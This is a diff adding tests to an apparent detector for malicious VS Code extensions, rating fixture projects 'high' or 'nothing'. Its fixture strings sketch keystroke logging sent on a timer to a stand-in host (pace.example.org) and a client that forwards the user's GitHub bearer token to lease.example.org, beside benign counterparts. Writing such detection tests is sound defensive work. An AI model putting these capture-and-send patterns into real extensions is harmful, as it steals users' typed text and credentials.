@@ -101,3 +101,54 @@ test('functions that hand on to each other, and calls in calls, end', () => {
   assert.deepEqual([handed(send(links(2_000))), handed(send(links(100).reverse()))], ['high', 'high']);
   assert.equal(handed(send(links(2_000).reverse())), 'nothing', 'more than a million steps');
 });
+
+const LEDGER = (method: string, url = "'https://pace.example.org/v1'") => `class Ledger {
+  constructor(who) { this.who = who; this.rows = []; setInterval(() => this.flush(), 20_000); }
+  ${method}
+  flush() { if (this.rows.length > 0) fetch(${url}, { method: 'POST', body: JSON.stringify({ who: this.who, rows: this.rows.splice(0) }) }); }
+}
+exports.Ledger = Ledger;`;
+const hears = (given: string) => `const vscode = require('vscode'); const { Ledger } = require('./ledger'); const ledger = new Ledger(vscode.env.machineId);
+vscode.workspace.onDidChangeTextDocument((event) => { for (const change of event.contentChanges) { ${given} } });`;
+
+test('bad: what somebody types is kept by another script, and sent later', () => {
+  const full = 'sample(document, change) { this.rows.push([document.fileName, change.range.start.line, change.text]); }';
+  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER(full) }), 'high');
+  assert.equal(worst({ 'index.js': hears('ledger.sample(change.text)'), 'ledger.js': LEDGER('sample(text) { this.rows.push(text.trim()); }') }), 'high');
+  const listens = "const vscode = require('vscode'); const { keep } = require('./keep');";
+  const keep = "const https = require('https'); const rows = []; exports.keep = (text) => { rows.push(text); }; function flush() { const request = https.request({ hostname: 'pace.example.org', method: 'POST' }); request.end(JSON.stringify(rows.splice(0))); } setInterval(flush, 9_000);";
+  for (const start of [
+    'vscode.workspace.onDidChangeTextDocument(({ contentChanges }) => keep(contentChanges.map((c) => c.text).join("")))',
+    "vscode.commands.registerCommand('type', (args) => { keep(args.text); return vscode.commands.executeCommand('default:type', args); })",
+  ]) assert.equal(worst({ 'index.js': `${listens} ${start}`, 'keep.js': keep }), 'high', start);
+});
+
+test('good: how much is typed, and what stays here', () => {
+  const full = 'sample(document, change) { this.rows.push([document.languageId, change.text]); }';
+  assert.equal(worst({ 'index.js': hears('ledger.sample(change.text.length)'), 'ledger.js': LEDGER('sample(count) { this.rows.push(count); }') }), 'nothing');
+  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER('sample(document, change) { this.rows.push([document.languageId, change.text.length]); }') }), 'nothing');
+  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER(full, "vscode.workspace.getConfiguration('pace').get('server')") }), 'nothing');
+  assert.equal(worst({ 'index.js': hears('ledger.sample(event.document, change)'), 'ledger.js': LEDGER('sample(document, change) { this.last = change.text; this.rows.push(document.languageId); }') }), 'nothing');
+});
+
+const CLIENT = (more: string) => `const RELAY = 'https://lease.example.org/v1'; class Client {
+  #headers; #owner;
+  constructor(session) { this.#headers = { authorization: \`Bearer \${session.accessToken}\` }; this.#owner = session.account; }
+  async pulls(name) { const url = \`https://api.github.com/repos/\${name}/pulls\`; ${more} return (await fetch(url, { headers: this.#headers })).json(); }
+}
+exports.Client = Client;`;
+const signsIn = (provider: string) => `const vscode = require('vscode'); const api_1 = require('./api'); exports.activate = async () => { const session = await vscode.authentication.getSession('${provider}', ['repo'], { createIfNone: true }); show(await new api_1.Client(session).pulls('a/b')); };`;
+
+test('a session of the editor goes to whom it is for', () => {
+  for (const [more, severity] of [
+    ["await fetch(new Request(RELAY, { method: 'POST', headers: this.#headers }));", 'high'],
+    ['await fetch(RELAY + "?for=" + url, { headers: { ...this.#headers } });', 'high'],
+    ['', 'nothing'],
+    ["await fetch(RELAY, { method: 'POST', body: JSON.stringify({ url }) });", 'nothing'],
+    ["await fetch('https://uploads.github.com/x', { headers: this.#headers });", 'nothing'],
+    ['await fetch(settings.get("server"), { headers: this.#headers });', 'nothing'],
+  ] as const) assert.equal(worst({ 'index.js': signsIn('github'), 'api.js': CLIENT(more) }), severity, more);
+  const graph = CLIENT('').replace('https://api.github.com', 'https://graph.microsoft.com');
+  assert.equal(worst({ 'index.js': signsIn('microsoft'), 'api.js': graph }), 'nothing');
+  assert.equal(worst({ 'index.js': signsIn('github'), 'api.js': graph }), 'high');
+});
